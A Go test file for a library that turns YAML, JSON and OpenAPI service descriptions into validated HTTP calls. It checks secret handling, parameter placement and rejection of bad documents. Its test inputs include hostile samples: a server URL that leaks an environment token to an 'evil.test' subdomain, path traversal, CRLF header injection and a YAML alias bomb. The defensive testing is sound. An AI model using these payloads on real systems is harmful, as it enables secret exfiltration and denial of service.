package service_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/pawlrun/pawl/service"
)

// keys are the secrets and the environment of descriptions.
func keys(url string) service.DescribeOptions {
	return service.DescribeOptions{
		HTTP: service.HTTPOptions{Network: loopback},
		Secret: func(_ context.Context, name string) (string, error) {
			if name == "lost" {
				return "", errors.New("it was lost")
			}
			return "s3cret-of-" + name, nil
		},
		Env: func(name string) (string, bool) {
			return map[string]string{"TICKETS_URL": url, "REGION": "eu-west"}[name], name == "TICKETS_URL" || name == "REGION"
		},
	}
}

func described(t testing.TB, document string, opt service.DescribeOptions) *service.Described {
	t.Helper()
	d, err := service.Describe([]byte(document), opt)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func testdata(t testing.TB, name string) string {
	t.Helper()
	data, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// does carries out an action and reads what the server was asked from what it echoes.
func does(t testing.TB, s service.Service, action string, pairs ...any) echoed {
	t.Helper()
	out, err := s.Call(t.Context(), service.Call{Action: action, Params: params(t, pairs...), Key: "step-1"})
	if err != nil {
		t.Fatalf("%s: %v", action, err)
	}
	return heard(t, out)
}

// doesNot is does of what must fail with a code and words.
func doesNot(t testing.TB, s service.Service, action, code, words string, pairs ...any) {
	t.Helper()
	_, err := s.Call(t.Context(), service.Call{Action: action, Params: params(t, pairs...), Key: "step-1"})
	var known *service.Error
	if !errors.As(err, &known) || known.Code != code || !strings.Contains(err.Error(), words) {
		t.Errorf("%s %v: %v, want %s with %q", action, pairs, err, code, words)
	}
}

func TestATicketSystemIsTenLines(t *testing.T) {
	s := serve(t, echo)
	d := described(t, testdata(t, "tickets.yaml"), keys(s.URL))
	if d.Name() != "ticketSystem" || len(d.Actions()) != 2 || d.Actions()[0].Name != "create" || d.Actions()[0].Effect != service.Writes || d.Actions()[1].Effect != service.Reads {
		t.Errorf("%s %+v", d.Name(), d.Actions())
	}
	e := does(t, d, "", "title", "it \"broke\"", "priority", "high")
	if e.Method != "POST" || e.Path != "/api/v2/tickets" || e.Body != `{"priority":"high","title":"it \"broke\""}` || e.Header.Get("Authorization") != "Bearer s3cret-of-tickets" || e.Header.Get("Idempotency-Key") != "step-1" {
		t.Errorf("%+v", e)
	}
	for id, path := range map[any]string{"a/b c?d#e": "/api/v2/tickets/a%2Fb%20c%3Fd%23e", 7: "/api/v2/tickets/7", "...": "/api/v2/tickets/...", "%2e": "/api/v2/tickets/%252e"} {
		if e := does(t, d, "show", "id", id); e.Path != path || e.Method != "GET" {
			t.Errorf("%v: %+v", id, e)
		}
	}
	for _, id := range []any{"", ".", ".."} {
		doesNot(t, d, "show", service.Invalid, "path", "id", id)
	}
	doesNot(t, d, "show", service.Invalid, "id")
	doesNot(t, d, "show", service.Invalid, "id", "id", nil)
	doesNot(t, d, "show", service.Invalid, "extra", "id", "1", "extra", 1)
	doesNot(t, d, "create", service.Invalid, "priority", "title", "t", "priority", "urgent")
	doesNot(t, d, "close", service.Invalid, `there are ["create" "show"]`)
}

func TestADescriptionPlacesItsParameters(t *testing.T) {
	s := serve(t, echo)
	const document = `{"name": "x", "baseURL": "{{env.TICKETS_URL}}/", "auth": {"query": {"name": "api_key", "value": "{{secrets.k}}"}}, "headers": {"X-Region": "{{env.REGION}}", "Accept": "text/all"}, "idempotencyHeader": "X-Key", "actions": {
		"find": {"path": "/find", "query": ["q", "tag"], "params": {"properties": {"q": {}, "tag": {}, "page": {"type": "integer"}}}},
		"wrap": {"path": "/{a}-{b}/x", "method": "PATCH", "effect": "once", "headers": {"accept": "text/own", "X-Opt": "{{params.opt}}"}, "query": {"fixed": 1, "both": "{{params.a}}+{{params.b}}", "opt": "{{params.opt}}"},
			"body": {"ticket": {"who": "{{params.a}} of {{params.b}}", "n": "{{params.n}}", "opt": "{{params.opt}}", "list": ["{{params.n}}", "{{params.opt}}", true], "all": "{{params}}"}},
			"params": {"properties": {"n": {}, "opt": {}, "free": {}}}, "auth": {"basic": {"username": "me", "password": "{{secrets.p}}"}}},
		"form": {"path": "/form", "method": "POST", "bodyType": "form", "params": {"additionalProperties": true}, "auth": {"header": {"name": "X-Auth", "value": "key {{secrets.h}}"}}},
		"note": {"path": "/note", "method": "POST", "bodyType": "text", "body": "{{params.text}}!", "params": {"properties": {"text": {}}}, "auth": null},
		"json": {"path": "/json", "method": "POST", "body": "{{params.text}}", "params": {"properties": {"text": {}}}, "idempotencyHeader": ""},
		"drop": {"path": "/{id}", "method": "DELETE", "params": {"properties": {"why": {"type": "string"}}}},
		"whole": {"path": "/", "answer": "whole"}
	}}`
	d := described(t, document, keys(s.URL))
	if e := does(t, d, "find", "q", "a&b", "tag", []any{"x", 2}, "page", json.Number("9007199254740993")); e.Query != "page=9007199254740993&q=a%26b&tag=x&tag=2&api_key=s3cret-of-k" || e.Header.Get("X-Region") != "eu-west" || e.Header.Get("Accept") != "text/all" {
		t.Errorf("%+v", e)
	}
	e := does(t, d, "wrap", "a", "A", "b", "B", "n", json.Number("9007199254740993"), "free", "{{secrets.k}}")
	if e.Path != "/A-B/x" || e.Query != "both=A%2BB&fixed=1" || e.Header.Get("Accept") != "text/own" || e.Header.Get("X-Opt") != "" || e.Header.Get("X-Key") != "step-1" || e.Header.Get("Authorization") != "Basic bWU6czNjcmV0LW9mLXA=" {
		t.Errorf("%+v", e)
	}
	if e.Body != `{"ticket":{"all":{"free":"{{secrets.k}}"},"list":[9007199254740993,true],"n":9007199254740993,"who":"A of B"}}` {
		t.Errorf("%s", e.Body)
	}
	if e := does(t, d, "form", "a", "1 2", "list", []any{1, 2}, "deep", map[string]any{"k": "v"}); e.Body != "a=1+2&deep%5Bk%5D=v&list=1&list=2" || e.Header.Get("X-Auth") != "key s3cret-of-h" {
		t.Errorf("%+v", e)
	}
	if e := does(t, d, "note", "text", "hi"); e.Body != "hi!" || e.Query != "" {
		t.Errorf("%+v", e)
	}
	if e := does(t, d, "json", "text", "hi"); e.Body != `"hi"` || e.Header.Get("Content-Type") != "application/json" || e.Header.Get("X-Key") != "" {
		t.Errorf("%+v", e)
	}
	if e := does(t, d, "drop", "id", "1", "why", "old"); e.Query != "why=old&api_key=s3cret-of-k" || e.Body != "" {
		t.Errorf("%+v", e)
	}
	out, err := d.Call(t.Context(), service.Call{Action: "whole", Params: params(t)})
	if answer, is := out.(*service.Answer); err != nil || !is || answer.Status != 200 {
		t.Errorf("%v %v", out, err)
	}
	doesNot(t, d, "wrap", service.Invalid, "must be a text", "a", "A", "b", "B", "opt", map[string]any{})
	doesNot(t, d, "find", service.Invalid, "must be a text", "q", map[string]any{})
	doesNot(t, d, "wrap", service.Invalid, "line break", "a", "A", "b", "B", "opt", "x\r\nY: 1")
}

func TestSecretsOfADescriptionStayInside(t *testing.T) {
	var served atomic.Int64
	s := serve(t, func(w http.ResponseWriter, r *http.Request) {
		served.Add(1)
		w.WriteHeader(403)
		_, _ = fmt.Fprintf(w, "%s is no key", r.Header.Get("X-Key"))
	})
	opt := keys(s.URL)
	d := described(t, `{"name": "x", "baseURL": "{{env.TICKETS_URL}}", "actions": {"a": {"path": "/", "headers": {"X-Key": "{{secrets.k}}", "X-Region": "{{env.REGION}}"}}, "lost": {"path": "/", "headers": {"X-Key": "{{secrets.lost}}"}}}}`, opt)
	doesNot(t, d, "a", service.Denied, "[secret] is no key")
	if _, err := d.Call(t.Context(), service.Call{Action: "lost"}); err == nil || !strings.Contains(err.Error(), `the secret "lost": it was lost`) {
		t.Error(err)
	}
	served.Store(0)
	for _, action := range []string{"a", "lost"} {
		out, err := d.Call(t.Context(), service.Call{Action: action, DryRun: true})
		data, _ := json.Marshal(out)
		if err != nil || strings.Contains(string(data), "s3cret") || strings.Contains(string(data), "eu-west") || !strings.Contains(string(data), `"would":"GET`) {
			t.Errorf("%s %v", data, err)
		}
	}
	if served.Load() != 0 {
		t.Error("a dry run was sent")
	}
}

// The address of a description may be from the environment, which is kept as a secret is.
func TestNoErrorTellsTheAddressOfTheEnvironment(t *testing.T) {
	silent := serve(t, func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	text := `{"name": "x", "baseURL": "{{env.TICKETS_URL}}", "actions": {"a": {"path": "/"}}}`
	ctx, end := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer end()
	if _, err := described(t, text, keys(silent.URL+"/hush-hush-path")).Call(ctx, service.Call{}); err == nil || strings.Contains(err.Error(), "hush") {
		t.Error(err)
	}
	closed := keys("http://192.168.7.7/hush-hush-path")
	closed.HTTP = service.HTTPOptions{}
	for _, dry := range []bool{false, true} {
		if _, err := described(t, text, closed).Call(t.Context(), service.Call{DryRun: dry}); err == nil || strings.Contains(err.Error(), "hush") {
			t.Error(err)
		}
	}
}

func TestAnAnswerIsHeldAgainstItsSchema(t *testing.T) {
	s := serve(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(r.URL.Query().Get("say")))
	})
	d := described(t, `{"name": "x", "baseURL": "`+s.URL+`", "actions": {"a": {"path": "/", "params": {"properties": {"say": {}}}, "result": {"type": "object", "required": ["id"]}}}}`, keys(""))
	if out, err := d.Call(t.Context(), service.Call{Params: params(t, "say", `{"id":1}`)}); err != nil || text(out) != `{"id":1}` {
		t.Errorf("%v %v", out, err)
	}
	doesNot(t, d, "a", service.BadAnswer, "was carried out", "say", `{}`)
	doesNot(t, d, "a", service.BadAnswer, "was carried out")
}

func TestAllThatIsWrongIsToldAtOnce(t *testing.T) {
	const document = `name: 9lives
baseUrl: https://x.test
baseURL: "ftp://x.test/{{secrets.a}}?q"
auth: {bearer: hard-coded, basic: {}}
actions:
  "bad name": {path: /}
  create:
    pth: /x
    method: post
    path: tickets/{id
    query: [titel]
    headers: {Host: x, "a b": y}
    effect: sometimes
    expect: [99, x]
    timeoutMs: 1.5
    idempotencyHeader: Connection
    params: {properties: {title: {type: strin}}}
    body: {a: "{{params.titel}}", b: "{{now}}", c: "{{env.NOPE}}", d: "{{params.title" }
  look: {path: '/x?y=1', body: x, answer: all}
  loose: {path: /x, method: PUT, body: {}, params: {properties: {lost: {}}}}
`
	_, err := service.Describe([]byte(document), keys("http://x.test"))
	var faults service.Faults
	if !errors.As(err, &faults) {
		t.Fatalf("%T %v", err, err)
	}
	for _, want := range []string{
		`1:7: /name: "9lives" can't be a name`, `2:1: /baseUrl: there is no field "baseUrl" here; did you mean "baseURL"?`, `3:10: /baseURL: an address takes {{env.NAME}} only`, `4:7: /auth: auth is one of`,
		`6:3: /actions/bad name: "bad name" can't be a name`, `8:5: /actions/create/pth: there is no field "pth" here; did you mean "path"?`, `9:13: /actions/create/method: "post" is not known here; did you mean "POST"?`,
		`/actions/create/path: "tickets/{id" is no path`, `/actions/create/query/0: there is no parameter "titel"; did you mean "title"?`, `"Host" is no header`, `"a b" is no header`, `"sometimes" is not known here`,
		`/actions/create/expect/0`, `/actions/create/timeoutMs: 1.5 is no whole number`, `"Connection" can't be the header`, `the parameters of create are no JSON Schema`,
		`/actions/create/body/a: there is no parameter "titel"; did you mean "title"?`, `{{now}} is no place`, `there is no {{env.NOPE}}`, `opened by {{ and not closed`,
		`/actions/look/path: a path has no query`, `/actions/look/body: a GET has no body`, `"all" is not known here`, `the parameter "lost" goes nowhere`,
	} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("%s is not among\n%v", want, err)
		}
	}
	if !slices.IsSortedFunc(faults, func(a, b service.Fault) int { return a.Line - b.Line }) {
		t.Errorf("they are not in the document's order: %v", err)
	}
	if strings.Contains(fmt.Sprint(faults), "hard-coded") {
		t.Error("a key is told")
	}
}

func TestDocumentsThatAreNone(t *testing.T) {
	for words, document := range map[string]string{
		"it is empty":                         " \n",
		"not UTF-8":                           "name: \xff",
		"no YAML":                             "a: [",
		"no YAML: ":                           "name: x\n\tb: c",
		"ends before its last bracket":        `{"name": "x"`,
		"no JSON":                             `{"name": nope}`,
		"stands behind its end":               `{"name": "x"} {}`,
		"more than one document":              "name: x\n---\nname: y",
		`2:1: /name: "name" stands twice`:     "name: x\nname: y",
		`1:14: /name: "name" stands twice`:    `{"name": "x","name": "y"}`,
		`stands twice in one object`:          `{"na\u006de": "x","name": "y"}`,
		"holds itself":                        "a: &a [*a]",
		"is not known here":                   "a: !!binary x",
		"and no merge":                        "a: &a {b: c}\nd: {<<: *a}",
		"no number that JSON":                 "a: .inf",
		"too large":                           `{"a": 1e999}`,
		"over 64 values deep":                 strings.Repeat("[", 100) + strings.Repeat("]", 100),
		"values deep":                         strings.Repeat("- ", 100) + "x",
		"over 200000 values":                  "[" + strings.Repeat("1,", 200_000) + "1]",
		"the limit is 4194304":                strings.Repeat(" ", 4<<20+1),
		"must be an object":                   "[]",
		`the field "actions" is missing`:      "name: x",
		"there are 0 actions":                 "name: x\nbaseURL: http://x.test\nactions: {}",
		"it is a text, and must be an object": "name: x\nbaseURL: http://x.test\nactions: nope",
		"OpenAPI of another version":          "openapi: 4.0.0",
		`than 3.0 and 3.1: "2.0"`:             "swagger: '2.0'",
		`"paths" is missing`:                  "openapi: 3.1.0\nservers: [{url: 'http://x.test'}]",
		"names no server":                     "openapi: 3.1.0\npaths: {}",
		"is relative":                         "openapi: 3.1.0\nservers: [{url: /v1}]\npaths: {}",
	} {
		_, err := service.Describe([]byte(document), keys(""))
		var faults service.Faults
		if !errors.As(err, &faults) || !strings.Contains(err.Error(), words) {
			t.Errorf("%.60q: %v, want %q", document, err, words)
		}
	}
	// An alias that is used often is as large as what it stands for.
	bomb := "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n"
	for i := range 9 {
		bomb += fmt.Sprintf("a%d: &a%d [%s]\n", i+1, i+1, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i), 10), ","))
	}
	if _, err := service.Describe([]byte(bomb), keys("")); err == nil || !strings.Contains(err.Error(), "over 200000 values") {
		t.Errorf("%v", err)
	}
}

func pets(t testing.TB, url string, actions ...string) (*service.Described, error) {
	t.Helper()
	opt := keys("")
	opt.BaseURL, opt.Actions = url, actions
	opt.Auth = map[string]string{"key": "{{secrets.pets}}", "basic": "me:{{secrets.pets}}"}
	return service.Describe([]byte(testdata(t, "openapi.yaml")), opt)
}

func TestAnOpenAPIDocumentIsADescription(t *testing.T) {
	s := serve(t, echo)
	d, err := pets(t, s.URL+"/v1", "showPet", "pets-replace", "addPet", "delete-pets", "login")
	if err != nil {
		t.Fatal(err)
	}
	if d.Name() != "Pet-shop" || d.Doc() != "Sells pets." || d.Actions()[0].Doc != "Shows a pet." || d.Actions()[1].Effect != service.Once {
		t.Errorf("%s %s %+v", d.Name(), d.Doc(), d.Actions())
	}
	e := does(t, d, "showPet", "petId", json.Number("9007199254740993"), "X-Trace", "t", "fields", []any{"a", "b,c"}, "tag", []any{"x", "y"}, "filter", map[string]any{"k": "v"})
	if e.Path != "/v1/pets/9007199254740993" || e.Query != "fields=a%2Cb%2Cc&filter%5Bk%5D=v&tag=x&tag=y" || e.Header.Get("X-Trace") != "t" || e.Header.Get("X-Api-Key") != "s3cret-of-pets" {
		t.Errorf("%+v", e)
	}
	e = does(t, d, "pets-replace", "petId", 1, "body", map[string]any{"name": "Rex", "nick": nil, "age": 0.5, "mother": map[string]any{"name": "Ma"}})
	if e.Method != "PUT" || e.Body != `{"age":0.5,"mother":{"name":"Ma"},"name":"Rex","nick":null}` || e.Header.Get("Content-Type") != "application/json" {
		t.Errorf("%+v", e)
	}
	if e := does(t, d, "addPet", "body", map[string]any{"name": "Rex"}); e.Header.Get("X-Api-Key") != "" {
		t.Errorf("%+v", e)
	}
	if e := does(t, d, "delete-pets"); !strings.HasPrefix(e.Header.Get("Authorization"), "Basic ") {
		t.Errorf("%+v", e)
	}
	if e := does(t, d, "login", "body", map[string]any{"user": "me"}); e.Body != "user=me" {
		t.Errorf("%+v", e)
	}
	for words, pairs := range map[string][]any{
		"petId":        {"petId", "seven"},
		"body":         {"petId", 1},
		"/body/mother": {"petId", 1, "body", map[string]any{"name": "x", "mother": map[string]any{}}},
		"/body/nick":   {"petId", 1, "body", map[string]any{"name": "x", "nick": "c"}},
		"/body/age":    {"petId", 1, "body", map[string]any{"name": "x", "age": 0}},
	} {
		doesNot(t, d, "pets-replace", service.Invalid, words, pairs...)
	}
	// The operations that can't be carried out are faults, unless others were chosen.
	_, err = pets(t, "")
	for _, want := range []string{`"session" in "cookie"`, "neither JSON nor a form nor text"} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v, want %s", err, want)
		}
	}
	if d, err = pets(t, "", "showPet"); err != nil || len(d.Actions()) != 1 {
		t.Fatal(err)
	}
	out, err := d.Call(t.Context(), service.Call{Params: params(t, "petId", 1), DryRun: true})
	if plan, is := out.(service.Plan); err != nil || !is || plan.Would != "GET https://pets.test/v1/pets/1" {
		t.Errorf("%+v %v", out, err)
	}
	// A document that came from elsewhere does not choose what it is told of this program's environment.
	for _, servers := range []string{`[{"url": "https://{{env.TOKEN}}.evil.test"}]`, `[{"url": "https://{v}.evil.test", "variables": {"v": {"default": "{{env.TOKEN}}"}}}]`} {
		_, err := service.Describe([]byte(`{"openapi": "3.1.0", "info": {"title": "t"}, "servers": `+servers+`, "paths": {"/a": {"get": {"operationId": "a"}}}}`),
			service.DescribeOptions{Env: func(string) (string, bool) { return "told", true }})
		if err == nil || !strings.Contains(err.Error(), "BaseURL") || strings.Contains(err.Error(), "told") {
			t.Errorf("%s: %v", servers, err)
		}
	}
	if _, err = pets(t, "", "showPets"); err == nil || !strings.Contains(err.Error(), `there is no action "showPets"`) {
		t.Error(err)
	}
}

// Who gave a key wants it sent, also where a document says that none is needed.
func TestAKeyThatIsGivenIsSentWhereNoneIsNeeded(t *testing.T) {
	for _, security := range []string{`[{}, {k: []}]`, `[{k: []}, {}]`, `[{other: []}, {}, {k: []}]`} {
		document := "openapi: 3.1.0\nservers: [{url: 'http://x.test'}]\nsecurity: " + security + "\npaths: {/x: {get: {operationId: look}}}\ncomponents: {securitySchemes: {k: {type: apiKey, in: header, name: X-Key}}}"
		for given, want := range map[string]bool{"{{secrets.k}}": true, "": false} {
			opt := keys("")
			opt.Auth = map[string]string{"k": given}
			d := described(t, document, opt)
			out, err := d.Call(t.Context(), service.Call{DryRun: true})
			data, _ := json.Marshal(out)
			if err != nil || strings.Contains(string(data), "X-Key") != want {
				t.Errorf("%s with the key %q: %s %v", security, given, data, err)
			}
		}
	}
}

func TestOpenAPIThatCanNotBeRead(t *testing.T) {
	head := "openapi: 3.1.0\nservers: [{url: 'http://x.test'}]\n"
	for words, rest := range map[string]string{
		"outside of the document":        "paths: {/x: {get: {parameters: [{$ref: 'other.yaml#/P'}]}}}",
		"names nothing":                  "paths: {/x: {get: {parameters: [{$ref: '#/components/parameters/P'}]}}}",
		"round in a circle":              "paths: {/x: {get: {parameters: [{$ref: '#/components/parameters/P'}]}}}\ncomponents: {parameters: {P: {$ref: '#/components/parameters/P'}}}",
		"no schema of the document's":    "paths: {/x: {get: {parameters: [{name: a, in: query, schema: {$ref: 'http://evil.test/schema'}}]}}}",
		"two parameters have the name":   "paths: {/x: {get: {parameters: [{name: a, in: query}, {name: a, in: header}]}}}",
		`with the style "matrix"`:        "paths: {'/x{a}': {get: {parameters: [{name: a, in: path, style: matrix}]}}}",
		"a content of its own":           "paths: {/x: {get: {parameters: [{name: a, in: query, content: {}}]}}}",
		"two operations with the name":   "paths: {/x: {get: {operationId: a}, put: {operationId: a}}}",
		"servers of single paths":        "paths: {/x: {get: {servers: [{url: 'http://evil.test'}]}}}",
		"references to whole paths":      "paths: {/x: {$ref: '#/paths/~1y'}, /y: {get: {}}}",
		"there is no key for any of":     "security: [{k: []}]\npaths: {/x: {get: {}}}\ncomponents: {securitySchemes: {k: {type: apiKey, in: query, name: k}}}",
		"is not known here":              "security: [{given: []}]\npaths: {/x: {get: {}}}\ncomponents: {securitySchemes: {given: {type: mutualTLS}}}",
		"no name and password":           "security: [{given: []}]\npaths: {/x: {get: {}}}\ncomponents: {securitySchemes: {given: {type: http, scheme: basic}}}",
		"does not hold the key":          "security: [{fixed: []}]\npaths: {/x: {get: {}}}\ncomponents: {securitySchemes: {fixed: {type: http, scheme: bearer}}}",
		"there are 0 operations":         "paths: {}",
		`"/x{" is no path`:               "paths: {'x{': {get: {}}}",
		"a brace of the path":            "paths: {'/x}': {get: {}}}",
		`which is that of the request's`: "paths: {/x: {post: {parameters: [{name: body, in: query}], requestBody: {content: {application/json: {}}}}}}",
	} {
		opt := keys("")
		opt.Auth = map[string]string{"given": "{{secrets.x}}", "fixed": "hard-coded"}
		_, err := service.Describe([]byte(head+rest), opt)
		var faults service.Faults
		if words = strings.Replace(words, `"/x{" is no path`, `"x{" is no path`, 1); !errors.As(err, &faults) || !strings.Contains(err.Error(), words) {
			t.Errorf("%s: %v, want %q", rest, err, words)
		}
	}
	// Schemas that grow by what they refer to are bounded, and so is what many operations share.
	var doc strings.Builder
	doc.WriteString(head + "components: {schemas: {")
	for i := range 20_000 {
		fmt.Fprintf(&doc, "S%d: {properties: {a: {$ref: '#/components/schemas/S%d'}}},", i, i+1)
	}
	doc.WriteString("S20000: {}}}\npaths: {")
	for i := range 100 {
		fmt.Fprintf(&doc, "/p%d: {get: {parameters: [{name: a, in: query, schema: {$ref: '#/components/schemas/S0'}}]}},", i)
	}
	if _, err := service.Describe([]byte(doc.String()+"}"), keys("")); err == nil || !strings.Contains(err.Error(), "over 10000 schemas") {
		t.Errorf("%.300v", err)
	}
}

func FuzzDescribe(f *testing.F) {
	for _, name := range []string{"tickets.yaml", "openapi.yaml"} {
		f.Add(testdata(f, name))
	}
	f.Fuzz(func(t *testing.T, document string) {
		opt := keys("http://x.test")
		opt.Auth = map[string]string{"key": "{{secrets.a}}"}
		d, err := service.Describe([]byte(document), opt)
		if err == nil {
			for _, a := range d.Actions() {
				_, _ = d.Call(t.Context(), service.Call{Action: a.Name, DryRun: true})
			}
		}
	})
}
